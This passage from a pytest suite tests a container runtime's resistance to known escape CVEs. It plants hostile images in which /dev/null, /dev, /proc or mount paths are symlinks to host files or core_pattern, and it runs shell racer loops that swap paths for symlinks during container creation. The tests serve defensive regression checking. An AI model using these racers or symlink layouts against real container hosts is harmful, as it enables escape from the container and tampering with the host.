    to ../../.., to a magic link (/proc/self/root: the *runtime's* root when resolved outside
    the container) or to an absolute host directory. The mount and any directory the runtime
    creates for it must stay inside the rootfs. A naive runtime (mount(2) on rootfs + path)
    creates /<name> on the host or mounts over the victim directory."""
    name = f"cella-30465-{secrets.token_hex(3)}"
    target = str(victim) if link == "VICTIM" else link
    os.symlink(target, bundle.rootfs / "hop")
    src = workdir / f"src-{name}"
    src.mkdir()
    (src / "marker").write_text("volume\n")
    m = {"destination": f"/hop/{name}", "type": "tmpfs", "source": "tmpfs"}
    if kind == "bind":
        m = {"destination": f"/hop/{name}", "type": "bind", "source": str(src),
             "options": ["rbind", "rw"]}
    bundle.config["mounts"].append(m)
    before = set(host_mountpoints())
    try:
        r = bundle.run(["/probe", "mounts", "ls", f"/hop/{name}"])
        host_paths_absent(f"/{name}", f"/tmp/{name}", str(victim / name))
        assert_victim_untouched(victim)
        new = new_host_mounts(before, name, str(victim))
        assert not new, f"new host mounts: {new}"
        if r.returncode == 0:
            if kind == "bind":
                assert r.facts[f"ls:/hop/{name}"] == ["marker"]
            inside = [mp for mp in (f"/{name}", f"/hop/{name}", f"/tmp/{name}",
                                    f"{victim}/{name}") if find_mount(r.facts, mp)]
            assert inside, "mount went nowhere visible in the container"
    finally:
        shutil.rmtree(src, ignore_errors=True)
        for p in (f"/{name}", f"/tmp/{name}"):
            if os.path.isdir(p) and not os.path.islink(p):
                os.rmdir(p)
    bundle.assert_no_leaks()


RACER = r"""
i=0
while [ $i -lt @N@ ]; do
    rm -rf /mnt/race; mkdir /mnt/race
    rm -rf /mnt/race; ln -s / /mnt/race
    rm -rf /mnt/race; ln -s @VICTIM@ /mnt/race
    rm -rf /mnt/race; ln -s ../../../../../.. /mnt/race
    i=$((i+1))
done
echo '{"racer":"done"}'
exec /probe sleep 60
"""


def test_cve_2023_27561_race_swapping_destination_for_symlink(bundle_factory, rt, victim,
                                                              workdir):
    """CVE-2021-30465 as exploited (and CVE-2023-27561, its regression): a container shares
    its rootfs with new containers and swaps the directory a mount goes through for a
    symlink (to /, to ../.., to a host directory) in a loop, hoping to win the race between
    the runtime's path check and mount(2). The runtime creates containers from that rootfs
    many times (bounded: 40 runs or 45 s); nothing may ever be created or mounted outside the
    rootfs.

    A runtime that resolves the path in user space and then mounts by path (runc < 1.0.0-rc95)
    loses the race: /cella-race-* appears on the host or in the victim directory."""
    racer = bundle_factory()
    shared = racer.rootfs
    (shared / "mnt" / "race").mkdir(parents=True, exist_ok=True)
    racer.config["root"]["path"] = str(shared)
    script = RACER.replace("@N@", "200000").replace("@VICTIM@", str(victim))
    assert racer.run_detached(["/bin/sh", "-c", script]).returncode == 0
    before = set(host_mountpoints())
    names = []
    deadline = time.monotonic() + 45
    for _ in range(40):
        if time.monotonic() > deadline:
            break
        b = bundle_factory()
        name = f"cella-race-{secrets.token_hex(3)}"
        names.append(name)
        b.config["root"] = {"path": str(shared), "readonly": False}
        b.config["mounts"].append({"destination": f"/mnt/race/{name}", "type": "tmpfs",
                                   "source": "tmpfs"})
        b.run(["/probe", "exit", "0"])
        host_paths_absent(f"/{name}", str(victim / name))
        assert_victim_untouched(victim)
        b.cleanup()
    new = new_host_mounts(before, "cella-race-", str(victim))
    assert not new, f"new host mounts: {new}"
    assert racer.facts().get("racer") is None, "the racer stopped before the runs ended"
    assert len(names) >= 10, "too few runs to exercise the race"


# --- CVE-2025-31133 / CVE-2025-52565 / CVE-2025-52881: redirected writes to host procfs -----

def no_dev_tmpfs(bundle):
    """Use the image's own /dev (no tmpfs over it), as the CVE reproducers do."""
    drop_mount(bundle, "/dev")


def assert_null(st, what):
    assert st.get("type") == "char" and st.get("rdev") == [1, 3], f"{what} is not /dev/null: {st}"


def test_cve_2025_31133_dev_null_symlink_to_core_pattern(bundle, procfs_guard):
    """The image ships /dev/null as a symlink to /proc/sys/kernel/core_pattern. A runtime that
    masks paths by bind-mounting the *container's* /dev/null follows it and binds the host's
    (writable) core_pattern over the masked files: writing a masked path then sets the host's
    core_pattern. The masks must be the real null device, /dev/null itself must be the null
    device, and the host's procfs must not change."""
    no_dev_tmpfs(bundle)
    replace_with_symlink(bundle.rootfs / "dev" / "null", CORE_PATTERN)
    mask = masked_file()
    f = bundle.probe("stat", mask, "stat", "/dev/null", "read", mask, "write", mask,
                     "write", "/dev/null", "read", CORE_PATTERN, *procfs_probe_args("/proc"))
    assert_null(f[f"stat:{mask}"], mask)
    assert_null(f["stat:/dev/null"], "/dev/null")
    assert f[f"read:{mask}"] == ""
    assert f[f"read:{CORE_PATTERN}"] == procfs_guard[CORE_PATTERN].rstrip("\n")
    assert_procfs_protected(f, "/proc")


@pytest.mark.parametrize("shape", ["file", "dir", "fifo"])
def test_cve_2025_31133_dev_null_replaced(bundle, procfs_guard, shape):
    """Variants of the same trick: /dev/null as a regular file, a directory, a FIFO. Masks must
    still be the null device (a naive runtime bind-mounts the image's file: reading a masked
    path returns the attacker's bytes, or the bind fails and masking is silently skipped)."""
    no_dev_tmpfs(bundle)
    p = bundle.rootfs / "dev" / "null"
    if p.exists() or p.is_symlink():
        p.unlink()
    if shape == "file":
        p.write_text("attacker bytes\n")
    elif shape == "dir":
        p.mkdir()
    else:
        os.mkfifo(p)
    mask = masked_file()
    f = bundle.probe("stat", mask, "read", mask, "stat", "/dev/null", *procfs_probe_args("/proc"))
    assert f[f"read:{mask}"] == "", f
    assert_null(f[f"stat:{mask}"], mask)
    assert_null(f["stat:/dev/null"], "/dev/null")
    assert_procfs_protected(f, "/proc")


DEV_RACER = r"""
i=0
while [ $i -lt @N@ ]; do
    rm -f /dev/null; ln -s @VICTIM@ /dev/null
    rm -f /dev/null; ln -s /proc/sys/kernel/core_pattern /dev/null
    rm -f /dev/null; : > /dev/null.tmp; mv /dev/null.tmp /dev/null
    i=$((i+1))
done
echo '{"racer":"done"}'
exec /probe sleep 60
"""


def test_cve_2025_31133_race_dev_null_swapped(bundle_factory, procfs_guard, workdir):
    """The race variant: a container sharing the rootfs keeps replacing /dev/null with a
    symlink to a host file (mode 0600, owner 1234), a symlink to core_pattern, or a regular
    file, while new containers are created from that rootfs without a /dev tmpfs (bounded: 30
    runs or 40 s). The runtime recreates /dev/null and chmods/chowns it; a runtime that
    follows the swapped symlink chmods the host file to 0666, and one that masks with the
    image's /dev/null binds core_pattern. Each run must either fail or see real masks, and the
    host file must keep its mode and owner."""
    host_file = workdir / f"dev-victim-{secrets.token_hex(3)}"
    host_file.write_text("secret\n")
    os.chown(host_file, 1234, 1234)
    os.chmod(host_file, 0o600)
    racer = bundle_factory()
    shared = racer.rootfs
    racer.config["root"]["path"] = str(shared)
    drop_mount(racer, "/dev")
    script = DEV_RACER.replace("@N@", "100000").replace("@VICTIM@", str(host_file))
    assert racer.run_detached(["/bin/sh", "-c", script]).returncode == 0
    mask = masked_file()
    runs = 0
    deadline = time.monotonic() + 40
    try:
        for _ in range(30):
            if time.monotonic() > deadline:
                break
            b = bundle_factory()
            b.config["root"] = {"path": str(shared), "readonly": False}
            no_dev_tmpfs(b)
            r = b.run(["/probe", "stat", mask, "read", mask, *procfs_probe_args("/proc")])
            runs += 1
            st = os.stat(host_file)
            assert (st.st_mode & 0o7777, st.st_uid) == (0o600, 1234), "host file chmod/chowned"
            assert host_file.read_text() == "secret\n"
            if r.returncode == 0:
                assert_null(r.facts[f"stat:{mask}"], mask)
                assert_procfs_protected(r.facts, "/proc")
            b.cleanup()
    finally:
        host_file.unlink()
    assert racer.facts().get("racer") is None, "the racer stopped before the runs ended"
    assert runs >= 10


@pytest.mark.parametrize("target", [CORE_PATTERN, "/proc/sysrq-trigger",
                                    "../../../proc/sys/kernel/core_pattern"])
def test_cve_2025_52565_dev_console_symlink(bundle, rt, procfs_guard, target):
    """The image ships /dev/console as a symlink into procfs. A runtime that bind-mounts the
    pty onto /dev/console by path follows it (and one that opens the pty slave by path can be
    raced into binding a procfs file *onto* /dev/console, which is then writable host
    procfs). /dev/console must end up the pty, and host procfs must be unchanged and not
    writable."""
    no_dev_tmpfs(bundle)
    replace_with_symlink(bundle.rootfs / "dev" / "console", target)
    sock = ConsoleSocket(bundle.path / "console.sock")
    try:
        bundle.config["process"]["terminal"] = True
        r = bundle.create(["/probe", "stat", "/dev/console", *procfs_probe_args("/proc"),
                           "exit", "0"], extra=["--console-socket", sock.path])
        if r.returncode != 0:
            assert r.stderr, "refused without an error message"
            return
        sock.wait_master()
        assert rt("start", bundle.id).returncode == 0
        rt.wait_status(bundle.id, "stopped")
        sock.wait_output(b"}\r\n")
        f = parse_probe(sock.output.decode(errors="replace").replace("\r\n", "\n"))
        st = f["stat:/dev/console"]
        assert st["type"] == "char" and st["rdev"][0] == 136, st
        assert_procfs_protected(f, "/proc")
    finally:
        sock.close()


@pytest.mark.parametrize("target", [CORE_PATTERN, "/proc/sysrq-trigger",
                                    "/../../proc/sys/kernel", "VICTIM"])
def test_cve_2025_31133_masked_path_is_symlink(bundle, procfs_guard, victim, target):
    """A masked path and a read-only path that are symlinks in the image. They may only ever
    cover something inside the container: never the host's file (the victim), and never leave
    procfs writable through the link."""
    t = str(victim / "keep") if target == "VICTIM" else target
    os.symlink(t, bundle.rootfs / "masked-link")
    os.symlink(t, bundle.rootfs / "ro-link")
    bundle.config["linux"]["maskedPaths"].append("/masked-link")
    bundle.config["linux"]["readonlyPaths"].append("/ro-link")
    r = bundle.run(["/probe", "write", "/masked-link", "write", "/ro-link",
                    *procfs_probe_args("/proc")])
    assert_victim_untouched(victim)
    assert r.returncode == 0, r
    assert_procfs_protected(r.facts, "/proc")


def test_cve_2025_52881_sysctl_write_stays_on_procfs(bundle, procfs_guard):
    """The runtime writes linux.sysctl through /proc; a hostile image must not redirect that
    write: the image ships a fake, writable /proc/sys/net/ipv4/ip_forward under the proc mount
    point. The write must reach the container's own network namespace sysctl (on procfs) and
    nothing else: neither the fake file nor the host's value."""
    fake = bundle.rootfs / "proc" / "sys" / "net" / "ipv4"
    fake.mkdir(parents=True)
    (fake / "ip_forward").write_text("fake\n")
    bundle.config["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}
    host_fwd = read_sysctl("/proc/sys/net/ipv4/ip_forward")
    f = bundle.probe("sysctl", "net.ipv4.ip_forward", "mounts")
    assert f["sysctl:net.ipv4.ip_forward"] == "1"
    assert find_mount(f, "/proc")["fstype"] == "proc"
    assert (fake / "ip_forward").read_text() == "fake\n"
    assert read_sysctl("/proc/sys/net/ipv4/ip_forward") == host_fwd


# --- CVE-2026-41579 (runc) / CVE-2026-47766 (crun): /dev, /proc, /sys as symlinks ---------------

DEV_NAMES = ["null", "zero", "full", "random", "urandom", "tty", "ptmx", "console", "fd",
             "stdin", "stdout", "stderr", "pts", "shm", "mqueue"]


@pytest.fixture
def host_root_clean():
    """The names a redirected /dev would create on the host root; none may exist before."""
    present = [n for n in DEV_NAMES if os.path.lexists(f"/{n}")]
    if present:
        pytest.skip(f"host root already has {present}")
    yield
    created = [f"/{n}" for n in DEV_NAMES if os.path.lexists(f"/{n}")]
    for p in created:  # undo an escape before reporting it
        if os.path.islink(p) or not os.path.isdir(p):
            os.unlink(p)
        else:
            subprocess.run(["umount", "-l", p], capture_output=True)
            shutil.rmtree(p, ignore_errors=True)
    assert not created, f"created on the host root (removed again): {created}"


ROOT_LINKS = ["/", "../../../../..", "VICTIM", "/proc/self/root/tmp"]
ROOT_BUG = ("cella bug: a mount whose destination resolves (through an image symlink) to the "
            "rootfs root itself is stacked on top of the root; after pivot_root it is "
            "reachable as `/..` in the container")


def root_link_cases(whats):
    """(what, link) pairs."""
    cases = []
    for what in whats:
        for link in ROOT_LINKS:
            cases.append(pytest.param(what, link, id=f"{what}->{link}"))
    return cases


@pytest.mark.parametrize("with_tmpfs", [True, False], ids=["dev-tmpfs", "image-dev"])
@pytest.mark.parametrize("link", ROOT_LINKS)
def test_cve_2026_41579_dev_is_symlink(bundle, victim, workdir, host_root_clean, procfs_guard,
                                       link, with_tmpfs):
    """The image's /dev is a symlink (to /, to ../.., to a host directory, through a magic
    link). Device nodes, the /dev/pts, /dev/shm, /dev/mqueue mounts and the /dev/* symlinks
    must all be created inside the rootfs; a naive runtime mknods /null etc. on the host root
    or mounts a tmpfs over a host directory. If the run succeeds, /dev/null inside is the null
    device, and no host procfs file became writable."""
    target = str(victim) if link == "VICTIM" else link
    if not with_tmpfs:
        drop_mount(bundle, "/dev")
    replace_with_symlink(bundle.rootfs / "dev", target)
    before = set(host_mountpoints())
    r = bundle.run(["/probe", "stat", "/dev/null", "write", "/dev/null",
                    *procfs_probe_args(*procfs_roots())])
    assert_victim_untouched(victim)
    new = new_host_mounts(before, str(victim), str(bundle.path))
    assert not new, f"new host mounts: {new}"
    if r.returncode == 0:
        assert_null(r.facts["stat:/dev/null"], "/dev/null")
        assert r.facts["write:/dev/null"]["errno"] == 0
        assert_procfs_protected(r.facts, *procfs_roots())
    bundle.assert_no_leaks()


@pytest.mark.parametrize("what,link", root_link_cases(["/proc", "/sys"]))
def test_cve_2026_47766_proc_or_sys_is_symlink(bundle, victim, workdir, host_root_clean,
                                               procfs_guard, what, link):
    """The image's /proc or /sys is a symlink (to /, to ../.., to a host directory, through a
    magic link). procfs/sysfs and every mask and read-only bind on them must land inside the
    rootfs, and no path in the container may reach a procfs whose masks or read-only binds were
    skipped: not /proc, and not `/..` (the parent of `/` is whatever is mounted on top of the
    root). A naive runtime mounts procfs over the host directory, or over the rootfs root where
    it escapes the masks; then /proc/sys/kernel/* of the *host* is writable."""
    target = str(victim) if link == "VICTIM" else link
    replace_with_symlink(bundle.rootfs / what.lstrip("/"), target)
    before = set(host_mountpoints())
    roots = procfs_roots("/sys/..")
    r = bundle.run(["/probe", "ls", "/sys/firmware", "ls", "/../firmware", "stat", "/..",
                    *procfs_probe_args(*roots)])
    assert_victim_untouched(victim)
    new = new_host_mounts(before, str(victim), str(bundle.path))
    assert not new, f"new host mounts: {new}"
    if r.returncode == 0:
        f = r.facts
        assert_procfs_protected(f, *roots)
        for p in ("/sys/firmware", "/../firmware"):
            fw = f[f"ls:{p}"]
            assert fw == [] or "errno" in fw, f"{p}: sysfs firmware not masked: {fw}"
    bundle.assert_no_leaks()


# --- CVE-2022-29162: inheritable capabilities ------------------------------------------------

def fcap_xattr(permitted, inheritable, effective=True):
    """security.capability v2 value: magic|flags, then (permitted, inheritable) low and high."""
    magic = 0x02000000 | (1 if effective else 0)
    vals = [magic, permitted & 0xFFFFFFFF, inheritable & 0xFFFFFFFF,
            permitted >> 32, inheritable >> 32]
    return b"".join(v.to_bytes(4, "little") for v in vals)


@pytest.fixture
def fcap_probe(bundle):
    """A private copy of the probe carrying file capabilities cap_net_bind_service+ei."""
    dst = bundle.rootfs / "probe-fcap"
    shutil.copy2(bundle.rootfs / "probe", dst)
    try:
        os.setxattr(dst, "security.capability",
                    fcap_xattr(0, caps_mask(["CAP_NET_BIND_SERVICE"])))
    except OSError as e:
        pytest.skip(f"cannot set file capabilities here: {e}")
    return "/probe-fcap"


def test_cve_2022_29162_inheritable_empty_by_default(bundle):
    """Capabilities as `cella spec` writes them (no inheritable set): the process's inheritable
    and ambient sets are empty. runc < 1.1.2 set inheritable = bounding."""
    f = bundle.probe("caps")
    assert int(f["caps"]["inheritable"], 16) == 0, f["caps"]
    assert int(f["caps"]["ambient"], 16) == 0, f["caps"]


def cap_config(bundle, inheritable):
    bundle.config["process"]["user"] = {"uid": 1000, "gid": 1000}
    bundle.config["process"]["noNewPrivileges"] = False
    caps = bundle.config["process"]["capabilities"]
    caps["bounding"] = sorted(set(caps["bounding"]) | {"CAP_NET_BIND_SERVICE"})
    caps["effective"] = []
    caps["permitted"] = []
    caps["ambient"] = []
    caps["inheritable"] = inheritable


def test_cve_2022_29162_no_gain_through_inheritable_file_caps(bundle, fcap_probe):
    """A non-root process exec's a file with inheritable file capabilities (fI =
    net_bind_service, f effective). It gains P'(permitted) = pI & fI: with the empty
    inheritable set the spec asks for, nothing. A runtime that fills pI from the bounding set
    (runc < 1.1.2) hands the process CAP_NET_BIND_SERVICE. noNewPrivileges is false, as in
    Docker's default, because no_new_privs would mask the bug."""
    cap_config(bundle, [])
    f = bundle.probe("caps", "ids")
    cmd = bundle.run([fcap_probe, "caps"], cid=bundle.new_id())
    assert cmd.returncode == 0, cmd
    c = cmd.facts["caps"]
    assert f["ids"]["uid"] == 1000
    assert int(c["inheritable"], 16) == 0, c
    assert int(c["permitted"], 16) == 0 and int(c["effective"], 16) == 0, c


def test_cve_2022_29162_check_can_fail(bundle, fcap_probe):
    """The same scenario with inheritable = [CAP_NET_BIND_SERVICE] in the config: the process
    does gain it. Proves the test above would catch a runtime that sets pI on its own."""
    cap_config(bundle, ["CAP_NET_BIND_SERVICE"])
    cmd = bundle.run([fcap_probe, "caps"])
    assert cmd.returncode == 0, cmd
    c = cmd.facts["caps"]
    want = caps_mask(["CAP_NET_BIND_SERVICE"])
    assert int(c["inheritable"], 16) == want
    assert int(c["permitted"], 16) == want and int(c["effective"], 16) == want, c


# --- CVE-2019-16884: a fake /proc in the image ------------------------------------------------

def fake_proc(d: Path):
    d.mkdir(parents=True, exist_ok=True)
    for name in ("kcore", "timer_list", "keys"):
        (d / name).write_text("FAKE\n")
    (d / "sys" / "kernel").mkdir(parents=True)
    (d / "sys" / "kernel" / "core_pattern").write_text("FAKE\n")
    (d / "sys" / "kernel" / "printk_ratelimit").write_text("FAKE\n")
    (d / "self" / "attr").mkdir(parents=True)
    (d / "self" / "attr" / "exec").write_text("")


@pytest.mark.parametrize("shape", ["dir", "symlink"])
def test_cve_2019_16884_fake_proc_does_not_bypass_masks(bundle, procfs_guard, shape):
    """The image's /proc is a directory of fake files (or a symlink to one). The runtime must
    mount the real procfs and apply masks and read-only paths to it, not to the fakes: a
    runtime that checks or writes /proc before mounting (the CVE: AppArmor labels written to a
    fake /proc/self/attr) or that masks by path through the image's symlink leaves the real
    masked files readable and /proc/sys writable."""
    if shape == "dir":
        shutil.rmtree(bundle.rootfs / "proc")
        fake_proc(bundle.rootfs / "proc")
        fake_dir = bundle.rootfs / "proc"
    else:
        fake_dir = bundle.rootfs / "fakeproc"
        fake_proc(fake_dir)
        replace_with_symlink(bundle.rootfs / "proc", "/fakeproc")
    mask = masked_file()
    f = bundle.probe("stat", mask, "read", "/proc/self/status", "mounts",
                     *procfs_probe_args("/proc", "/fakeproc"))
    assert_null(f[f"stat:{mask}"], mask)
    assert "Name:" in f["read:/proc/self/status"], "/proc is not the real procfs"
    assert_procfs_protected(f, "/proc")
    mp = "/proc" if shape == "dir" else "/fakeproc"
    assert find_mount(f, mp)["fstype"] == "proc"
    assert (fake_dir / "timer_list").read_text() == "FAKE\n", "fake file written through"
